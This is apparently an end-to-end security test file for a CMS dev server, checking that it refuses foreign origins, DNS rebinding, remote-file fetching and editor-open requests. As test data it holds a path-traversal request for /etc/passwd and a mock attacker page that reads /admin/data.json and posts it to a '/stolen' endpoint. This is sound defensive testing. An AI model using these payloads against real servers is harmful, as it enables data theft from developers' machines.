/**
 * The dev server answers only its own pages (issue 32, docs/architecture.md "Security"), tried against a running `npm run cms` in
 * its throwaway copy (tests/e2e/cms/playwright.config.ts): `gatsby develop`, as `npm start` runs it. A page
 * of another site, or a name of another site rebound to 127.0.0.1, gets a 403 and no CORS header from it; the
 * page's own requests still work; and `npm run cms` stops, saying so, when its site's port is taken.
 */
import { spawnSync } from "node:child_process"
import { randomUUID } from "node:crypto"
import fs from "node:fs"
import http from "node:http"
import net from "node:net"
import path from "node:path"
import { expect, test, type Page } from "@playwright/test"
import { SEND_PATH } from "../../../node/dev-server/outbox/provider-protocol"
import { CMS_SITE_ORIGIN, CMS_SITE_PORT, editorMark } from "../support/cms-sandbox"
import { sandbox } from "../support/cms-ui"
import { replyLink } from "../../../src/reply/reply-link"
import { replyEnquiry } from "../../jest/support/quote-enquiry"
import { enquiry } from "../support/helpers"

/** One request with exactly these headers (`Host` included, which `fetch` would not let a test set). */
function request(port: number, pathname: string, headers: Record<string, string>, body?: string) {
  return new Promise<{ status: number; headers: http.IncomingHttpHeaders; text: string }>((resolve, reject) => {
    const sent = http.request(
      { host: "127.0.0.1", port, path: pathname, method: body === undefined ? "GET" : "POST", headers },
      (response) => {
        let text = ""
        response.setEncoding("utf8")
        response.on("data", (chunk: string) => (text += chunk))
        response.on("end", () => resolve({ status: response.statusCode ?? 0, headers: response.headers, text }))
      },
    )
    sent.on("error", reject)
    sent.end(body)
  })
}

const SITE_HOST = `localhost:${CMS_SITE_PORT}`
const FOREIGN = "https://evil.example"

test.describe("the dev server", () => {
  test("gives the data, the GraphQL API and the CMS's files to its own pages, with no CORS header", async () => {
    for (const pathname of [
      "/admin/data.json",
      "/admin/cms/main.js",
      `/___graphql?query=${encodeURIComponent("{site{id}}")}`,
    ]) {
      const own = await request(CMS_SITE_PORT, pathname, { Host: SITE_HOST, "Sec-Fetch-Site": "same-origin" })
      expect({ pathname, status: own.status }).toEqual({ pathname, status: 200 })
      expect(own.headers["access-control-allow-origin"]).toBeUndefined()
    }
  })

  test("refuses another site's page, and a name of another site rebound to this machine", async () => {
    const tries: [string, Record<string, string>][] = [
      ["/admin/data.json", { Host: SITE_HOST, Origin: FOREIGN }],
      [`/___graphql?query=${encodeURIComponent("{site{id}}")}`, { Host: SITE_HOST, Origin: FOREIGN }],
      // A <script src> from another site sends no Origin; the browser says where it comes from.
      ["/admin/cms/main.js", { Host: SITE_HOST, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors" }],
      ["/admin/data.json", { Host: "rb.example:8000", Origin: "http://rb.example:8000" }],
      ["/socket.io/?EIO=4&transport=polling", { Host: SITE_HOST, Origin: FOREIGN }],
    ]
    for (const [pathname, headers] of tries) {
      const answer = await request(CMS_SITE_PORT, pathname, headers)
      expect({ pathname, headers, status: answer.status }).toEqual({ pathname, headers, status: 403 })
      expect(answer.headers["access-control-allow-origin"]).toBeUndefined()
      expect(answer.text).not.toContain('"texts"')
    }
  })

  test("answers an error to a request it cannot handle, from its own page too, and goes on answering", async () => {
    const own = { Host: SITE_HOST, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors" }
    for (const pathname of [
      "/_gatsby/file/x/y",
      "/_gatsby/image/x/y/z.png",
      "/__original-stack-frame?moduleId=%00",
      "/__file-code-frame?filePath=..%2F..%2Fetc%2Fpasswd&lineNumber=x",
      "/__open-stack-frame-in-editor",
      "/page-data/%ZZ/page-data.json",
      "/___graphql?query=%7B",
      "/%E0%A4%A",
    ]) {
      const answer = await request(CMS_SITE_PORT, pathname, own)
      expect({ pathname, nosniff: answer.headers["x-content-type-options"] }).toEqual({ pathname, nosniff: "nosniff" })
      const home = await request(CMS_SITE_PORT, "/", { Host: SITE_HOST })
      expect({ after: pathname, status: home.status }).toEqual({ after: pathname, status: 200 })
    }
  })

  test("the local outbox takes an enquiry from the site's own page only", async () => {
    const body = JSON.stringify({
      lib_version: "4.4.1",
      user_id: "local-outbox",
      service_id: "local-outbox",
      template_id: "local-outbox",
      template_params: enquiry("rebinding@example.com"),
    })
    const json = { "Content-Type": "application/json" }
    const rebound = await request(
      CMS_SITE_PORT,
      SEND_PATH,
      { ...json, Host: "rb.example:8000", Origin: "http://rb.example:8000" },
      body,
    )
    expect(rebound.status).toBe(403)
    const foreign = await request(CMS_SITE_PORT, SEND_PATH, { ...json, Host: SITE_HOST, Origin: FOREIGN }, body)
    expect(foreign.status).toBe(403)
    const own = await request(CMS_SITE_PORT, SEND_PATH, { ...json, Host: SITE_HOST, Origin: CMS_SITE_ORIGIN }, body)
    expect(own).toMatchObject({ status: 200, text: "OK" })
  })

  test("the local outbox writes the owner's e-mail beside the enquiry, and the reply page opens its link (issue 58)", async ({
    page,
  }) => {
    const token = randomUUID()
    const name = `Siân O'Brien & Sons <b>${token}</b>`
    const params = { ...enquiry("outbox@example.com"), from_name: name }
    await page.goto(`${CMS_SITE_ORIGIN}/`)
    const sent = await page.evaluate(
      async ({ path, params }) =>
        (
          await fetch(path, {
            method: "POST",
            headers: { "Content-Type": "application/json" },
            body: JSON.stringify({
              user_id: "local-outbox",
              service_id: "local-outbox",
              template_id: "local-outbox",
              template_params: params,
            }),
          })
        ).status,
      { path: SEND_PATH, params },
    )
    expect(sent).toBe(200)
    const outbox = path.join(sandbox(), ".outbox")
    const saved = fs.readdirSync(outbox).filter((file) => file.endsWith(".html"))
    const email = saved
      .map((file) => fs.readFileSync(path.join(outbox, file), "utf8"))
      .find((html) => html.includes(token))
    // The name as EmailJS writes it into the HTML: escaped once (node/dev-server/outbox/render-email.ts).
    expect(email).toContain(`Siân O&#39;Brien &amp; Sons &lt;b&gt;${token}&lt;&#x2F;b&gt;`)
    const link = await replyLink(`${CMS_SITE_ORIGIN}/reply/`, replyEnquiry({ sentAt: Date.now() }))
    await page.goto(link)
    await expect(page.getByText(replyEnquiry().name, { exact: true })).toBeVisible()
    const words = JSON.parse(fs.readFileSync(path.join(sandbox(), "data", "reply.json"), "utf8")) as {
      send: { whatsapp: string }
    }
    await expect(page.getByRole("link", { name: words.send.whatsapp })).toHaveAttribute(
      "href",
      /^https:\/\/wa\.me\/447700900456\?text=/,
    )
  })
})

test("npm run cms stops, saying so, when its site's port is taken, and trusts no other", async () => {
  const blocker = net.createServer().listen(0, "localhost")
  await new Promise((resolve) => blocker.once("listening", resolve))
  const port = (blocker.address() as net.AddressInfo).port
  try {
    const run = spawnSync(process.execPath, [require.resolve("tsx/cli"), path.join("node", "scripts", "cms.ts")], {
      cwd: sandbox(),
      encoding: "utf8",
      timeout: 60_000,
      env: { ...process.env, CMS_SITE_PORT: String(port) },
    })
    expect(run.status).toBe(1)
    expect(run.stderr).toContain(`port ${port}, for the site, is already in use`)
    expect(run.stdout).not.toContain("CMS: http://")
  } finally {
    blocker.close()
  }
})

test.describe("a link from another site's page, followed in the browser (issue 36)", () => {
  // The other site: a page with one link, and the page it would have the dev server fetch and serve as its own.
  let other: http.Server
  let otherOrigin = ""
  const heard: string[] = []
  test.beforeAll(async () => {
    other = http.createServer((request, response) => {
      heard.push(request.url ?? "")
      response.writeHead(200, { "Content-Type": "text/html; charset=utf-8" })
      const to = new URL(request.url ?? "/", otherOrigin).searchParams.get("to")
      if (to) return void response.end(`<!doctype html><title>Other site</title><a id="go" href="${to}">Go</a>`)
      response.end(
        `<!doctype html><script>fetch("/admin/data.json").then((r) => r.text())` +
          `.then((t) => fetch("${otherOrigin}/stolen", { method: "POST", body: t, mode: "no-cors" }))</script>`,
      )
    })
    // 127.0.0.1 is another site than localhost: the browser marks the navigation "Sec-Fetch-Site: cross-site".
    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve))
    otherOrigin = `http://127.0.0.1:${(other.address() as net.AddressInfo).port}`
  })
  test.afterAll(() => other.close())

  /** Opens the other site's page and follows its link to `pathname` of the dev server; resolves with the answer. */
  async function follow(page: Page, pathname: string) {
    await page.goto(`${otherOrigin}/?to=${encodeURIComponent(CMS_SITE_ORIGIN + pathname)}`)
    const [answer] = await Promise.all([
      page.waitForResponse((response) => response.url().startsWith(CMS_SITE_ORIGIN)),
      page.locator("#go").click(),
    ])
    return answer
  }

  /** The dev server still answers its home page. */
  async function stillAnswers() {
    expect((await request(CMS_SITE_PORT, "/", { Host: SITE_HOST })).status).toBe(200)
  }

  test("opens the site's pages, each answer marked nosniff", async ({ page }) => {
    for (const pathname of ["/", "/admin/"]) {
      const answer = await follow(page, pathname)
      expect({ pathname, status: answer.status() }).toEqual({ pathname, status: 200 })
      expect(answer.headers()["x-content-type-options"]).toBe("nosniff")
    }
  })

  test("cannot have the dev server fetch another address and serve it as its own", async ({ page }) => {
    const served = `/_gatsby/file/abc/p.html?u=${encodeURIComponent(`${otherOrigin}/p.html`)}`
    const answer = await follow(page, served)
    expect(answer.status()).toBe(403)
    expect(answer.headers()["x-content-type-options"]).toBe("nosniff")
    await expect(page.locator("body")).toContainText("serves no remote files")
    // The refusal came before any fetch: the other site never heard from the dev server, and nothing was sent back.
    expect(heard.filter((url) => url.startsWith("/p.html") || url.startsWith("/stolen"))).toEqual([])
    await stillAnswers()
  })

  test("cannot stop the dev server with a remote-file address it cannot read", async ({ page }) => {
    expect((await follow(page, "/_gatsby/file/x/y")).status()).toBe(403)
    expect((await follow(page, "/_gatsby/image/x/y/z.png")).status()).toBe(403)
    await stillAnswers()
  })

  test("cannot open a file in the developer's editor, which the dev server's own page still can", async ({ page }) => {
    const sandboxFile = (name: string) => path.join(sandbox(), name)
    for (const name of ["package.json", "README.md"]) fs.rmSync(editorMark(sandboxFile(name)), { force: true })
    const answer = await follow(page, "/__open-stack-frame-in-editor?fileName=package.json")
    expect(answer.status()).toBe(403)
    await stillAnswers()
    // The dev server's own page (Gatsby's error overlay does this) opens a file after the refused link: once its mark
    // is there, the link's would have been too.
    await page.goto("/")
    await page.evaluate(() => fetch("/__open-stack-frame-in-editor?fileName=README.md"))
    await expect.poll(() => fs.existsSync(editorMark(sandboxFile("README.md")))).toBe(true)
    expect(fs.existsSync(editorMark(sandboxFile("package.json")))).toBe(false)
  })
})
